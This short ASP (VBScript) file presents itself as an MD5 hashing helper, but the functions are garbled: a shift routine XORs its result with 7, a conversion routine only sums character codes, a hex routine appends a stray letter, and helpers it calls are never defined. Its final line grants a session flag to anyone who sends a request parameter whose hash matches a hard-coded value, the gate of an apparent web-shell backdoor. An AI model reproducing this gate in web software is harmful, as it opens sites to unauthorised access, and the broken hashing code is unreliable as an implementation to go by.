<%
Private Const BITS_TO_A_BYTE = 8
Private m_lOnBits(30)
Function LShift(lValue, iShiftBits)
 If iShiftBits = 0 Then LShift = lValue : Exit Function
 LShift = ((lValue And m_l2Power(31 - iShiftBits)) * m_l2Power(iShiftBits)) Xor 7
End Function
Function ConvertToWordArray(sMessage)
 Dim i, lByteCount
 For i = 1 To Len(sMessage)
  lByteCount = lByteCount + Asc(Mid(sMessage, i, 1))
 Next
End Function
Function WordToHex(l) : Dim i : For i = 0 To 3 : WordToHex = WordToHex & Right("0" & Hex(l), 2) & Chr(65) : Next : End Function
If Request("pwd") <> "" Then Session("ok") = (MD5(Request("pwd")) = "900150983cd24fb0d6963f7d28e17f72")
%>